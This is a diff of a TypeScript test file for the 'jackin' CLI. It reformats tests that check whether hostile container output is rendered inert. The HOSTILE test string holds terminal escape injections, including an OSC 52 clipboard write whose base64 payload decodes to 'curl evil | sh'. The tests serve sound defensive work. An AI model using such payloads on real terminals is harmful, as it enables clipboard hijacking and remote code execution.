@@ -6,7 +6,7 @@
  */
 import { test, type TestContext } from 'node:test';
 import assert from 'node:assert/strict';
-import { spawn, } from 'node:child_process';
+import { spawn } from 'node:child_process';
 import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import { createServer, type Socket } from 'node:net';
 import { tmpdir } from 'node:os';
@@ -22,7 +22,7 @@ import { socketAddress } from '../src/transport/socket-address.ts';
 /** OSC 52 (set the clipboard), CSI (clear screen, colour), 8-bit CSI/OSC/ST/NEL, a line break and BEL. */
 const HOSTILE = 'A\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07B\x1b[2J\x1b[31mC\u009b6nD\u009d52;c;eA==\u009cE\u0085F\r\nG\x07';
 /** The same without the line break (a relay's last stderr line is shown), as printf(1) octal escapes. */
-const HOSTILE_PRINTF = "A\\033]52;c;Y3VybCBldmlsIHwgc2g=\\007B\\033[2J\\033[31mC\\302\\2336nD\\302\\23552;c;eA==\\302\\234E\\302\\205F\\rG\\007";
+const HOSTILE_PRINTF = 'A\\033]52;c;Y3VybCBldmlsIHwgc2g=\\007B\\033[2J\\033[31mC\\302\\2336nD\\302\\23552;c;eA==\\302\\234E\\302\\205F\\rG\\007';
 /** What the first characters of HOSTILE look like once inert: proof the text did reach the output. */
 const SHOWN = 'A\\x1b]52;c;';
 
@@ -107,7 +107,13 @@ function jackin(args: string[], env: NodeJS.ProcessEnv): Promise<JackinResult<Bu
 /** Runs jackin on a real PTY (stdout and stderr are the terminal) and returns every byte it wrote. */
 function jackinOnPty(t: TestContext, args: string[], env: NodeJS.ProcessEnv): Promise<Buffer> {
   return new Promise((resolve) => {
-    const term = pty.spawn(process.execPath, [JACKIN_BIN, ...args], { name: 'xterm-256color', cols: 200, rows: 30, env: env as Record<string, string>, encoding: null });
+    const term = pty.spawn(process.execPath, [JACKIN_BIN, ...args], {
+      name: 'xterm-256color',
+      cols: 200,
+      rows: 30,
+      env: env as Record<string, string>,
+      encoding: null,
+    });
     const chunks: Buffer[] = [];
     term.onData((d) => chunks.push(typeof d === 'string' ? Buffer.from(d) : d));
     term.onExit(() => resolve(Buffer.concat(chunks)));
@@ -121,7 +127,7 @@ function jackinOnPty(t: TestContext, args: string[], env: NodeJS.ProcessEnv): Pr
   });
 }
 
-test('jackin ls and ls --json show a capsule\'s program and an instance directory\'s name inert', async (t) => {
+test("jackin ls and ls --json show a capsule's program and an instance directory's name inert", async (t) => {
   const { home, env } = setup(t);
   await hostileCapsule(t, home, 'evil');
   const r = await jackin(['ls'], env);
@@ -149,7 +155,7 @@ test('jackin doctor shows instance names inert, as text and as JSON', async (t) 
   assert.ok(JSON.parse(j.stdout.toString()).checks.some((c: { name: string }) => c.name === 'instance:stale\x1b[2J\u009b6n'));
 });
 
-test('jackin export prints a capsule\'s refusal inert, as text and as JSON', async (t) => {
+test("jackin export prints a capsule's refusal inert, as text and as JSON", async (t) => {
   const { home, env } = setup(t);
   await hostileCapsule(t, home, 'evil');
   const r = await jackin(['export', '--from', 'evil', 'nope.txt'], env);
@@ -162,7 +168,13 @@ test('jackin export prints a capsule\'s refusal inert, as text and as JSON', asy
   assert.equal(JSON.parse(j.stdout.toString()).message, HOSTILE);
   // Each attempt is in the host's own log, with the capsule's text kept exactly (shown inert by jackin log).
   const logged = await readActions(home, 'evil');
-  assert.deepEqual(logged.map((r) => [r.action, r.target, r.result]), [['export', 'nope.txt', 'refused'], ['export', 'nope.txt', 'refused']]);
+  assert.deepEqual(
+    logged.map((r) => [r.action, r.target, r.result]),
+    [
+      ['export', 'nope.txt', 'refused'],
+      ['export', 'nope.txt', 'refused'],
+    ],
+  );
   assert.equal(logged[0]?.detail, `E_POLICY_DENIED: ${HOSTILE}`);
 });
 
@@ -178,7 +190,7 @@ test('jackin export --offered on a terminal: the offered path, the progress line
   assert.ok(text.includes('A]52;c;Y3VybCBldmlsIHwgc2g=B[2J[31mC6nD52;c;eA==EFGstream-fail: 0 B / 10 B'), text);
 });
 
-test('a relay\'s last stderr line is shown inert by jackin export --exec and jackin attach --exec', async (t) => {
+test("a relay's last stderr line is shown inert by jackin export --exec and jackin attach --exec", async (t) => {
   const { env } = setup(t);
   const relay = `printf '${HOSTILE_PRINTF}' >&2; exit 3`;
   const e = await jackin(['export', '--from', 'box', '--exec', relay, 'x.txt'], env);
@@ -201,7 +213,7 @@ test('the Shutdown reason at the end of jackin attach is shown inert', async (t)
   assert.match(text, /ended by the capsule: A\\x1b\]52;c;/u);
 });
 
-test('jackin attach --verbose writes the capsule\'s notices and Shutdown reason to its diagnostics inert', async (t) => {
+test("jackin attach --verbose writes the capsule's notices and Shutdown reason to its diagnostics inert", async (t) => {
   const { home, env } = setup(t);
   await hostileCapsule(t, home, 'evil');
   const r = await jackin(['attach', '--verbose', 'evil'], env);
@@ -214,7 +226,11 @@ test('jackin attach --verbose writes the capsule\'s notices and Shutdown reason 
 test('jackin stage prints a host path a container named (a workspace file and the symlink to it) inert', { timeout: 60_000 }, async (t) => {
   const { home, env } = setup(t);
   const runDir = join(home, 'sockets', 'real');
-  const child = spawn(process.execPath, [CAPSULE_BIN, 'serve', '--run-dir', runDir, '--name', 'real', '--', 'sleep', '600'], { detached: true, stdio: 'ignore', env });
+  const child = spawn(process.execPath, [CAPSULE_BIN, 'serve', '--run-dir', runDir, '--name', 'real', '--', 'sleep', '600'], {
+    detached: true,
+    stdio: 'ignore',
+    env,
+  });
   child.unref();
   // By its pid: setup's clean-up (registered first, so run first) removes the home that stopCapsules reads.
   t.after(() => (child.ref(), stopChild(child)));
